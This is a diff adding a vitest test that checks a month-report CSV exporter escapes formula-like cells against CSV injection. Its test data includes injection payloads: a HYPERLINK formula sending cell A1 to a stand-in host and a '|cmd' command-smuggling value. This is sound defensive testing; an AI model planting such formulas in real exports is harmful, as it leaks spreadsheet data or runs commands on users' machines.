@@ -1,4 +1,5 @@
 import { describe, expect, it } from 'vitest';
+import Papa from 'papaparse';
 import { monthReportCsv, monthReportName } from './report.js';
 
 // The month report as CSV (issue 20 #7): RFC 4180, UTF-8, a header row.
@@ -26,5 +27,22 @@ describe('monthReportCsv', () => {
   it('writes the header alone for a month without entries, and names the file by month', () => {
     expect(monthReportCsv('2026-09', entries)).toBe('\uFEFFDate,Status,Details,Entry id\r\n');
     expect(monthReportName('2026-11')).toBe('progress-2026-11.csv');
+  });
+});
+
+describe('monthReportCsv: cells a spreadsheet would run', () => {
+  // OWASP, "CSV Injection": a cell that begins with =, +, -, @, a tab or a carriage return is read
+  // as a formula by Excel and LibreOffice. Read back with a real CSV parser, each such detail must
+  // come out as text led by an apostrophe, and every other cell exactly as written.
+  const risky = ['=HYPERLINK("http://x.example/?"&A1,"click")', '+SUM(1,2)|cmd', '-2+3', '@SUM(A1:A2)', '\tpadded', '\rreturn'];
+  const month = risky.map((details, i) => ({ id: `r${i}`, date: `2026-11-${String(10 + i)}`, status: 'In Progress', details }));
+
+  it('leads every formula-like detail with an apostrophe, and leaves ordinary text as it is', () => {
+    const csv = monthReportCsv('2026-11', [...month, { id: 'ok', date: '2026-11-30', status: 'Completed', details: 'Level 2 – 3 rooms, 50% done' }]);
+    const parsed = Papa.parse<string[]>(csv.replace(/^\uFEFF/, ''), { newline: '\r\n' });
+    expect(parsed.errors).toEqual([]);
+    const rows = parsed.data.filter((r) => r.length > 1).slice(1);
+    expect(rows.map((r) => r[2])).toEqual([...risky.map((d) => `'${d}`), 'Level 2 – 3 rooms, 50% done']);
+    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
   });
 });
